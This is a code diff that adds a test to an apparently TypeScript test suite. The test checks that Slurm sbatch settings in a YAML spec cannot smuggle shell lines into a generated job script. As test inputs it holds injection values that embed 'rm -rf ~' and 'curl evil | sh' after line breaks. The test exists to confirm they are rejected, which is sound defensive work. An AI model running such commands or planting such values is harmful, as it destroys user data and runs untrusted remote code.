@@ -9,6 +9,7 @@ import { loadSpec, expandRuns, expandSweep } from '../src/spec/index.js';
 import { MINI, specError, tmpSpec } from './helpers/spec.js';
 import { MAX_ALIAS_VALUES, MAX_SPEC_BYTES } from '../src/spec/tree.js';
 import { runCli } from './helpers/cli.js';
+import { sbatchScript } from '../src/launch/slurm.js';
 
 const dir = mkdtempSync(join(tmpdir(), 'acnn-hostile-'));
 const spec = (name: string, text: string) => tmpSpec(text, name, dir);
@@ -117,6 +118,16 @@ seeds: !!set {1, 2}
     }
     const ok = await loadSpec(spec('interp-ok.yaml', `${MINI}description: "\${env:HOME} \${train.iterations}"\n`), { env: { HOME: '/home/x' } });
     assert.equal(ok.spec.description, '/home/x 10');
+  });
+
+  it('sbatch options cannot smuggle shell lines into the array script', async () => {
+    const e = await specError(loadSpec(spec('slurm.yaml', `${MINI}sweep:\n  slurm:\n    partition: "debug\\nrm -rf ~"\n    extraArgs: ["--constraint=v100", "--x\\ncurl evil | sh"]\n`)));
+    assert.match(e.message, /slurm\.yaml:10:\d+: sweep\.slurm\.partition: expected a string matching/);
+    assert.match(e.message, /slurm\.yaml:11:\d+: sweep\.slurm\.extraArgs\.1: expected a string matching/);
+    // The script writer refuses them too (flags such as --partition do not pass through the schema).
+    const script = { jobName: 'j', array: '0', logDir: '/tmp', cwd: '/tmp', tasks: [{ index: 0, dir: '/tmp/r' }], program: ['acnn'], flags: {} };
+    assert.throws(() => sbatchScript({ ...script, settings: { partition: 'debug\nrm -rf ~' } }), /sweep\.slurm\.partition: .* holds a line break/);
+    assert.match(sbatchScript({ ...script, settings: { partition: 'debug', extraArgs: ['--constraint=v100'] } }), /#SBATCH --constraint=v100\n/);
   });
 
   it('a plan too large to make is refused before it is made', async function () {
